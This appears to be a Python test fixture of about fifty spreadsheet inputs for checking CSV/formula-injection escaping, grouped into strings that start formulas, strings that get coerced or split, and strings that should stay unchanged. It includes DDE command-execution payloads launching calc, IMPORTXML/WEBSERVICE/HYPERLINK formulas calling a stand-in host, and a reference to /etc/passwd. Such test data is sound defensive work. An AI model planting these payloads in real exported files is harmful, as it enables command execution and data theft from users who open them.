"""Fifty texts that a spreadsheet may want to work out, run, link, shorten or turn into something else."""

RUNS = (
    *("=1+1", "=SUM(A1:A9)", "= 1+1", "==1+1", "=A1", '=HYPERLINK("http://kwaad.test";"klik")'),
    *('=IMPORTXML("http://kwaad.test","//a")', '=WEBSERVICE("http://kwaad.test")', "=cmd|' /C calc'!A0"),
    *('=DDE("cmd";"/C calc";"A0")', "{=1+1}", "=1+1;=2+2", "='file:///etc/passwd'#$Sheet1.A1"),
    *("+1+1", "+31 6 12345678", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@naam"),
    *("\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   +1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\x00=1+1"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20naam"),
)
"""What starts, or seems to start, as a formula."""

TURNS = (
    *("0612345678", "007", "1-5", "12/3", "20:30", "1.000,50", "€ 5", "50%", "1e5", "#N/B"),
    *(
        "2026-11-21",
        "cmd|' /C calc'!A0",
        "'=1+1",
        '"=1+1"',
        "een; twee",
        'hij zei "nee"',
        "een\ntwee\r\ndrie",
    ),
)
"""What would become a figure, a day, a truth, another cell or another row."""

STAYS = ("één, geïnd, ĳs, Súdwest-Fryslân, € 1.250,50", "-", "😀 👨‍👩‍👧 שלום", "<b>vet</b> &amp;", "")
"""What nobody should notice."""

HOSTILE = (*RUNS, *TURNS, *STAYS)
